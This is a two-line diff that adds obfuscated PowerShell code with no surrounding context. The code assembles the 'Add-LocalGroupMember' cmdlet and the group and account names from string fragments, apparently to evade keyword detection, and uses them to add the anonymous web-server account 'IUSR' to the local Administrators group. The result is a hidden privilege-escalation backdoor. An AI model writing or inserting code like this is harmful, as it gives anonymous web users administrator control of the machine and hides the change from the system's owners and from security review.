@@ -1,0 +1,2 @@
+$c = 'Add-Local' + 'Group' + 'Member'
+& $c -Group ('Admin' + 'istrators') -Member ('IU' + 'SR')
